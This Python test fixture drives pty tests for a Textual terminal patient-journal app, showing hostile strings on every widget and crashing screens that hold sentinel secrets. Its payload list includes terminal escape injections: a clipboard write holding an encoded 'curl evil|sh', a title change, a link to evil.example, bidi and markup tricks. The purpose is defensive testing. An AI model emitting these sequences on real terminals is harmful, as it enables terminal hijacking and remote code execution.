"""Hostile text on every widget of ours, and programs that fail, for the pty tests: `python -m tests.hostile_app NAME`.

Every program runs under the real supervising parent.
"""

from __future__ import annotations

import os
import sys
from functools import partial
from typing import TYPE_CHECKING, Any, ClassVar, cast

from rich.segment import Segment
from rich.text import Text
from textual.content import Content
from textual.screen import Screen
from textual.widgets import DataTable, OptionList, Static

from cli import supervisor
from cli.__main__ import _protect
from tests.form_app import ListScreen, no_day
from tui import crash
from tui.acting import Acting
from tui.app import FeltjournalApp
from tui.launch import LOCK, Launch
from tui.terminal import show
from tui.widgets.frame_line import FrameLine
from tui.widgets.key_line import KeyLine
from tui.widgets.message_line import MessageLine
from tui.widgets.row_list import RowList
from tui.widgets.sign_bar import SignBar
from tui.widgets.text_pad import TextPad
from tui.widgets.value_field import ValueField

if TYPE_CHECKING:
    from collections.abc import Callable

    from textual.app import ComposeResult
    from textual.binding import BindingType

PAYLOADS = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "title": "\x1b]0;PWNED-TITLE\x07",
    "csi": "\x1b[2J\x1b[31mRED",
    "query": "\x1b[6n",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "apc": "\x1b_Gi=1;AAAA\x1b\\",
    "link": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "c1": "\x9b31m\x9d0;PWNED\x9c",
    "c0": "a\x00\x07\x08\x0b\x0c\x0e\x0f\x1a\x7fz",
    "bidi": "dose \u202e01\u202c mg \u2066x\u2069",
    "hidden": "zero\u200bwidth\u2060\ufeff",
    "tags": "tag\U000e0041\U000e007f",
    "lines": "a\u2028b\u2029c\x85d",
    "surrogate": "half\ud800",
    "click": "[@click=app.screenshot('pwn.svg','.')]klikk[/]",
    "closing": "[/x] allergi [ikke bekreftet] slutt",
}
"""What a journal may hold that must not steer a terminal, and what looks like markup."""

SECRETS = ("HANSEN-SENTINEL", "14817012345", "Bearer sentinel-token")


class HostileScreen(Acting, Screen[None]):
    """One payload on every widget of ours, and on Textual's own where the screens use them."""

    AUTO_FOCUS = "RowList"
    CSS = """
    HostileScreen Static, HostileScreen RowList, HostileScreen TextPad, HostileScreen OptionList { height: 2; }
    HostileScreen DataTable { height: 3; }
    """

    def __init__(self, payload: str) -> None:
        super().__init__()
        self.payload = f"før{payload}etter"

    def compose(self) -> ComposeResult:
        """Lay the payload out everywhere."""
        yield FrameLine(self.payload)
        yield Static(show(self.payload), id="shown")
        yield Static(self.payload, markup=False)
        yield RowList[str](
            lambda item, _width, _chosen: [Segment(item)], detail=lambda item, _width: [[Segment(item)]]
        )
        yield ValueField("felt", self.payload, cells=40, id="value")
        yield TextPad(self.payload)
        yield OptionList(self.payload, markup=False)
        yield DataTable()
        yield SignBar()
        yield MessageLine()
        yield KeyLine()

    def on_mount(self) -> None:
        """Fill what is filled later."""
        self.query_one(FrameLine).show_state("TRENING", (self.payload, "bold"))
        self.query_one(RowList).set_items([self.payload])
        self.query_one(DataTable).add_column(Text(self.payload))
        self.query_one(DataTable).add_row(Text(self.payload))
        self.query_one(SignBar).open(Content.assemble(show(self.payload), Content(self.payload)))
        self.tell(f"melding {self.payload}")


class FailingScreen(ListScreen):
    """Fails in different places, with patient data in local variables and in the exception's own text."""

    BINDINGS: ClassVar[list[BindingType]] = [
        ("h", "fail_here", ""),
        ("w", "fail_in_work", ""),
        ("r", "fail_in_render", ""),
        ("t", "fail_in_thread", ""),
        ("p", "panic", ""),
        ("m", "markup", ""),
    ]

    def on_mount(self) -> None:
        """Put a patient on the screen."""
        super().on_mount()
        self.tell(SECRETS[0])

    def action_fail_here(self) -> None:
        """Fail in a handler."""
        _fail()

    def action_fail_in_work(self) -> None:
        """Fail in a worker."""
        cast("FeltjournalApp", self.app).work(_fail_later())

    def action_fail_in_render(self) -> None:
        """Fail while drawing."""
        rows = self.query_one(RowList)
        rows._draw = lambda *_a: _fail()
        rows.refresh()

    def action_fail_in_thread(self) -> None:
        """Fail in a thread."""
        self.run_worker(_fail, thread=True)

    def action_panic(self) -> None:
        """Ask Textual to show something."""
        self.app.panic(Text(" ".join(SECRETS)))

    def action_markup(self) -> None:
        """Fail with an error that can render itself."""
        self.query_one(FrameLine).app.screen.mount(Static(f"[/x] {SECRETS[0]}"))


def _fail() -> Any:
    patient, number, token = SECRETS
    raise KeyError(f"{patient} {number} {token}")


async def _fail_later() -> None:
    _fail()


class LockingScreen(ListScreen):
    """Says which process it is."""

    def on_mount(self) -> None:
        """Show a patient and the process."""
        super().on_mount()
        self.tell(f"{SECRETS[0]} prosess {os.getpid()} forelder {os.getppid()}")


def _screens() -> dict[str, Callable[[], Screen[Any]]]:
    return {
        "fail": FailingScreen,
        "lock": LockingScreen,
        "list": ListScreen,
        **{name: partial(HostileScreen, text) for name, text in PAYLOADS.items()},
    }


def main() -> int:
    """Run one of them under the parent."""
    name = sys.argv[1]
    if name == "fail-early":
        return supervisor.run(lambda _locked: _early(), before=_protect)
    return supervisor.run(lambda _locked: _client(_screens()[name]), before=_protect)


def _early() -> int:
    from cli.client import guarded

    return guarded(_fail)


def _client(screen: Callable[[], Screen[Any]]) -> int:
    from cli.client import guarded

    def run() -> int:
        app = FeltjournalApp(Launch(screen, no_day))
        app.run(mouse=False)
        return app.return_code or 0

    return guarded(run)


if __name__ == "__main__":
    assert LOCK == supervisor.LOCK
    assert crash.CRASHED == supervisor.CRASHED
    raise SystemExit(main())
